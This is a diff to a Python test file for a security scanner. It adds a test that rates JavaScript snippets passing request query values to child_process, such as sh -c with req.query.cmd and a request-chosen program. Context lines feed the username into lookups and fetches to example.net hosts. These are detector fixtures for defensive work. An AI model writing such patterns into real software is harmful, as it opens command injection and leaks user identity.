@@ -635,3 +635,15 @@ def test_login_name_in_a_socket_message_is_medium_in_a_resolver_lookup_high():
             "new Resolver().resolve4(os.userInfo().username + '.b.example.net');\n"
             "fetch('https://t.example.net/?u=' + os.userInfo().username);\n")
     assert _by_line("host-identity-sent-over-network", "m.js", text) == {5: "medium", 6: "high", 7: "high"}
+
+
+def test_request_input_as_an_argument_of_a_fixed_program_is_medium_through_a_shell_critical():
+    text = ("const { execFile, spawn } = require('child_process');\n"
+            "app.get('/a', (req, res) => {\n"
+            "  execFile('ping', ['-c', '2', '--', req.query.host], cb);\n"
+            "  spawn('sh', ['-c', req.query.cmd]);\n"
+            "  spawn('git', ['log', req.query.ref], { shell: true });\n"
+            "  execFile(req.query.prog, [], cb);\n"
+            "});\n")
+    assert _by_line("js-exec-of-request-input", "a.js", text) == {3: "medium", 4: "critical", 5: "critical",
+                                                                   6: "critical"}
